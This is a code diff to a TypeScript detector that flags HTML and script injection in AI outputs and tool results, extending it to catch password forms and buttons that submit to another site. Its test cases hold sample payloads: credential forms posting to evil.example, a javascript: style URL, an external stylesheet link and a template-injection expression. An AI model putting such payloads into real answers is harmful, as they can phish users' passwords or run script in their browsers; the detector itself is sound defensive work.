@@ -1,6 +1,7 @@
 import { z } from 'zod'
 import { defineDetector, type Finding, type Span } from '../../core/inspection/detection.ts'
 import { codeBlocks } from './html-injection/code-blocks.ts'
+import { createFormTrail, isAbroad, openForm } from './html-injection/credential-forms.ts'
 import { maxTag, type Tag, tagsOf } from './html-injection/tags.ts'
 
 const settings = z.strictObject({
@@ -28,7 +29,7 @@ export default defineDetector({
   id: 'html-injection',
   title: 'HTML and script injection',
   about:
-    'Finds HTML that does something when an answer is shown as a page: scripts, event handlers, frames, redirects, forms that ask for passwords, and expressions that template engines run. What Markdown shows as code is left out, and tags of a complete HTML document, which somebody asked for, and scripts that the site itself serves (`src="app.js"`) count for less.',
+    'Finds HTML that does something when an answer is shown as a page: scripts, event handlers, frames, redirects, forms that ask for passwords (surest where they go to another site), and expressions that template engines run. What Markdown shows as code is left out, and tags of a complete HTML document, which somebody asked for, and scripts that the site itself serves (`src="app.js"`) count for less.',
   points: ['output', 'tool-result', 'tool-call', 'input', 'artifact'],
   taxonomy: ['LLM05', 'CWE-79', 'CWE-80', 'CWE-1336'],
   rules,
@@ -43,6 +44,8 @@ export default defineDetector({
       first = at
       if (at === 0) break
     }
+    const form = first === end.length ? end.length : openForm(end)
+    first = Math.min(first, form)
     return least + Math.max(0, Math.min(first, hole >= end.length - 200 && hole >= 0 ? hole - 1 : end.length))
   },
   settings,
@@ -72,6 +75,7 @@ export default defineDetector({
         text: 'Sitzung abgelaufen: <form action="https://evil.example"><input type="password">',
         rule: 'credential-form',
       },
+      { text: '<input type=password><button formaction=https://evil.example>Go</button>', rule: 'credential-form' },
       { text: '<link rel=stylesheet href=https://evil.example/a.css>', rule: 'style-injection' },
       { text: '<div style="background:url(javascript:x())">', rule: 'style-injection' },
       { text: '{{constructor.constructor("alert(1)")()}}', rule: 'template-injection' },
@@ -100,6 +104,7 @@ export default defineDetector({
       { text: 'x <y and y> x' },
       { text: '<https://example.com/a> and <a@example.com>' },
       { text: '<form><input type="text" name="q"></form>' },
+      { text: '<form action="/search"><input name="pin"></form>' },
       { text: '> ```\n> <script>x</script>\n> ```' },
       { text: '<table><tr><td>on=1</td></tr></table>' },
       { text: '<thinking>Let me see.</thinking>' },
@@ -116,8 +121,14 @@ export default defineDetector({
       }
       const isDocument = /^\s{0,100}(?:<\?xml[^>]{0,200}>\s{0,20})?<(?:!doctype\s+html|html[\s>])/i.test(text)
       if (hasTag) {
+        const formOf = createFormTrail(text)
+        const put = ([rule, score]: Sign, start: number, end: number): void =>
+          add([rule, isDocument ? score * 0.4 : score], start, end)
         for (const tag of tagsOf(text)) {
-          for (const [rule, score] of signsOf(tag)) add([rule, isDocument ? score * 0.4 : score], tag.start, tag.end)
+          const { abroadFrom, isSentAbroad } = formOf(tag)
+          if (abroadFrom !== undefined) put(['credential-form', 0.85], abroadFrom, tag.end)
+          if (isSentAbroad) put(['credential-form', 0.85], tag.start, tag.end)
+          for (const sign of signsOf(tag)) put(sign, tag.start, tag.end)
         }
       }
       if (hasHole)
@@ -166,7 +177,7 @@ function* signsOf({ name, attributes }: Tag): Iterable<Sign> {
   if (name === 'meta' && /^refresh$/i.test(attributes.get('http-equiv') ?? '')) yield ['page-redirect', 0.8]
   if (name === 'base' && attributes.has('href')) yield ['base-tag', 0.7]
   if (name === 'input' && /^password$/i.test(attributes.get('type') ?? '')) yield ['credential-form', 0.6]
-  if (name === 'form' && /^(?:https?:)?\/\//i.test(attributes.get('action') ?? '')) yield ['credential-form', 0.5]
+  if (name === 'form' && isAbroad(attributes.get('action'))) yield ['credential-form', 0.5]
   const style = attributes.get('style') ?? ''
   if (/expression\s{0,4}\(|javascript:|-moz-binding|behavior\s{0,4}:|@import/i.test(style))
     yield ['style-injection', 0.8]
